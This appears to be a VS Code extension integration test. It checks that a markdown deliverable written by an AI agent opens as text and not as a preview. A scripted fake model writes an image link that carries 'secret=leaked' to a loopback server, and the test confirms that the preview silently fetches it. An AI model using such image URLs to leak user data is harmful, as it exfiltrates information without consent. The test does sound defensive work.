// A deliverable that refers to a remote image, in the real extension host: VS Code's markdown
// preview fetches such an image by itself as soon as it renders (shown here against an https server
// on 127.0.0.1 that counts connections), so an agent could leak data through an image URL without
// any ask. The run's deliverable therefore opens as text.
import * as assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import * as fs from "node:fs";
import * as https from "node:https";
import type { AddressInfo } from "node:net";
import * as os from "node:os";
import * as path from "node:path";
import * as vscode from "vscode";
import { sharedHermetic } from "./env";
import { waitUntil } from "../../real/helpers/processes";
import { runProtocolPaths, stepOf, text, tools, type ModelRequest } from "../../fakes/fakeModel";

type RunRecord = { title: string; runDir: string; report: { state: string; deliverables: string[] }; result?: unknown };
const runs = () => vscode.commands.executeCommand<RunRecord[]>("opencode.test.runs");
const tabsOf = (file: string) => vscode.window.tabGroups.all.flatMap(g => g.tabs).filter(t => (t.input as { uri?: vscode.Uri } | undefined)?.uri?.fsPath === file);

describe("a deliverable with a remote image", function () {
  this.timeout(120_000);
  let server: https.Server;
  let connections = 0;
  let imageUrl: string;
  let env: Awaited<ReturnType<typeof sharedHermetic>>;

  before(async () => {
    env = await sharedHermetic();
    await vscode.extensions.getExtension("opencode-community.opencode-vscode")!.activate();
    // The image host: a self-signed https server on loopback; a connection attempt is what counts.
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "oc-img-"));
    execFileSync("openssl", ["req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", path.join(dir, "k.pem"), "-out", path.join(dir, "c.pem"), "-days", "1", "-subj", "/CN=127.0.0.1"], { stdio: "ignore" });
    server = https.createServer({ key: fs.readFileSync(path.join(dir, "k.pem")), cert: fs.readFileSync(path.join(dir, "c.pem")) }, (_req, res) => res.end());
    server.on("connection", () => connections++);
    await new Promise<void>(r => server.listen(0, "127.0.0.1", r));
    imageUrl = `https://127.0.0.1:${(server.address() as AddressInfo).port}/pixel.png?secret=leaked`;
  });
  after(async () => {
    server?.close();
    await vscode.commands.executeCommand("workbench.action.closeAllEditors");
  });

  it("opens as text, with the reason, while VS Code's own preview of it fetches the image", async () => {
    const folder = vscode.workspace.workspaceFolders![0];
    env.model.handle((req: ModelRequest) => {
      const paths = runProtocolPaths(req);
      if (!paths) return text("(the protocol was not in the prompt)");
      return [
        tools({ name: "write", args: { filePath: path.join(paths.deliverables, "remote.md"), content: `# Report\n\n![status](${imageUrl})\n` } }),
        tools({ name: "bash", args: { command: `echo 'DELIVERABLE: deliverables/remote.md' >> ${paths.log} && echo 'DONE: written' >> ${paths.log}`, description: "report" } }),
        text("Written."),
      ][stepOf(req)] ?? text("(over)");
    });
    // The run answers its own writes and log appends itself: nothing waits for the user.
      await vscode.window.showTextDocument(vscode.Uri.joinPath(folder.uri, "src", "greet.ts"));
      const started = vscode.commands.executeCommand("opencode.runTask");
      await waitUntil(async () => await vscode.commands.executeCommand<boolean>("opencode.test.typeInRunInput", "Write the remote report"), 15_000, "the Run Task input did not show");
      await vscode.commands.executeCommand("workbench.action.acceptSelectedQuickOpenItem");
      await started;
      await waitUntil(async () => (await runs()).some(r => r.title === "Write the remote report" && r.result !== undefined), 60_000, "the run did not end");
      const run = (await runs()).find(r => r.title === "Write the remote report")!;
      const file = fs.realpathSync(path.join(run.runDir, "deliverables", "remote.md"));
      assert.deepEqual(run.report.deliverables, [file]);
      await waitUntil(() => tabsOf(file).length > 0, 15_000, "the deliverable's tab did not open");
      assert.deepEqual(tabsOf(file).map(t => t.input instanceof vscode.TabInputText), [true], "opened as text, not as the preview");
      assert.equal(connections, 0, "nothing contacted the image host");

      // The reason: VS Code's preview of the same file contacts the host at once.
      await vscode.commands.executeCommand("vscode.openWith", vscode.Uri.file(file), "vscode.markdown.preview.editor", { preview: false });
      await waitUntil(() => connections > 0, 30_000, "the preview did not fetch the remote image");
  });
});
